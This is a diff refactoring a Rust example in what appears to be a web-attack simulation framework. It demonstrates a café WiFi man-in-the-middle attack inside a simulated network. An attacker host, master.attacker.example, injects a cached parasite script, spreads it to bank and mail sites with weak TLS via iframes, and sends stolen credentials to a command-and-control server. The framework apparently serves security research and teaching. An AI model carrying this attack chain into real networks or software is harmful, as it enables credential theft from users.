@@ -3,59 +3,43 @@
 //! the victim never opened during the attack — followed by credential theft
 //! and a manipulated transfer once the victim is back home.
 //!
-//! Run with: `cargo run -p parasite --example wifi_cafe_attack`
+//! Run with: `cargo run --example wifi_cafe_attack`
 
-use mp_browser::browser::Browser;
-use mp_browser::dom::Dom;
-use mp_browser::profile::BrowserProfile;
-use mp_httpsim::body::ResourceKind;
-use mp_httpsim::tls::{TlsDeployment, TlsVersion};
-use mp_httpsim::transport::{Internet, StaticOrigin};
-use mp_httpsim::url::Url;
-use parasite::attacks;
-use parasite::cnc::CncServer;
-use parasite::master::Master;
-use parasite::propagation;
-
-fn web() -> Internet {
-    let mut net = Internet::new();
-    let mut news = StaticOrigin::new("news.example");
-    news.put_text(
-        "/",
-        ResourceKind::Html,
-        r#"<html><head><script src="/app.js"></script></head><body>headlines</body></html>"#,
-        "no-cache",
-    );
-    news.put_text("/app.js", ResourceKind::JavaScript, "function news(){}", "public, max-age=86400");
-    net.register_origin(news);
-
-    net.register("bank.example".to_string(), Box::new(mp_apps::banking::BankingApp::default()));
-    net.register("mail.example".to_string(), Box::new(mp_apps::webmail::WebMailApp::default()));
-    net
-}
+use master_parasite::browser::dom::Dom;
+use master_parasite::httpsim::url::Url;
+use master_parasite::parasite::{attacks, propagation};
+use master_parasite::ScenarioBuilder;
 
 fn main() {
-    let mut master = Master::new("master.attacker.example");
-    master.add_target(Url::parse("http://news.example/app.js").expect("static url"));
-    let infector = master.infector();
-
     // Café WiFi: the master infects everything it can see. The bank and mail
     // sites use HTTPS, but their deployments are vulnerable (legacy SSL), so
     // the on-path attacker can inject into them too — which is what makes the
     // propagation phase of the demo work.
-    let mut hostile = master.injecting_exchange(web());
-    hostile.infect_all(true);
-    for host in ["bank.example", "mail.example"] {
-        hostile
-            .injectability_mut()
-            .set(host, TlsDeployment::legacy_ssl(TlsVersion::Ssl3));
-    }
-    let mut browser = Browser::new(BrowserProfile::chrome(), Box::new(hostile));
+    let mut scenario = ScenarioBuilder::new()
+        .page(
+            "news.example",
+            "/",
+            r#"<html><head><script src="/app.js"></script></head><body>headlines</body></html>"#,
+            "no-cache",
+        )
+        .script("news.example", "/app.js", "function news(){}", "public, max-age=86400")
+        .app("bank.example", || Box::new(mp_apps::banking::BankingApp::default()))
+        .app("mail.example", || Box::new(mp_apps::webmail::WebMailApp::default()))
+        .master("master.attacker.example")
+        .target("http://news.example/app.js")
+        .infect_all()
+        .weak_tls("bank.example")
+        .weak_tls("mail.example")
+        .build();
+    let infector = scenario.infector().expect("scenario has a master");
 
     println!("== phase 1: victim reads the news in the café ==");
     let news = Url::parse("http://news.example/").expect("static url");
-    let load = browser.visit(&news);
-    println!("  parasite running on news.example: {}", load.page.scripts.iter().any(|s| infector.is_infected(&s.body)));
+    let load = scenario.browser.visit(&news);
+    println!(
+        "  parasite running on news.example: {}",
+        load.page.scripts.iter().any(|s| infector.is_infected(&s.body))
+    );
 
     println!("\n== phase 2: the parasite iframes banking and web mail ==");
     let mut dom = Dom::new(news.clone());
@@ -63,7 +47,7 @@ fn main() {
         Url::parse("https://bank.example/login").expect("static url"),
         Url::parse("https://mail.example/login").expect("static url"),
     ];
-    let report = propagation::propagate_via_iframes(&mut browser, &mut dom, &targets, &infector);
+    let report = propagation::propagate_via_iframes(&mut scenario.browser, &mut dom, &targets, &infector);
     println!("  domains now carrying parasites: {:?}", report.infected_domains);
     println!("  domains that stayed clean:      {:?}", report.clean_domains);
 
@@ -77,7 +61,7 @@ fn main() {
     let submission = login_dom.submit_form(form).expect("form exists");
     let session = bank.login(&submission).expect("credentials valid");
 
-    let mut cnc = CncServer::new("master.attacker.example");
+    let mut cnc = scenario.cnc().expect("scenario has a master");
     let theft = attacks::steal_login_data(&login_dom, &mut cnc, "campaign-0");
     println!("  credential theft succeeded: {} ({:?})", theft.succeeded, theft.evidence);
 
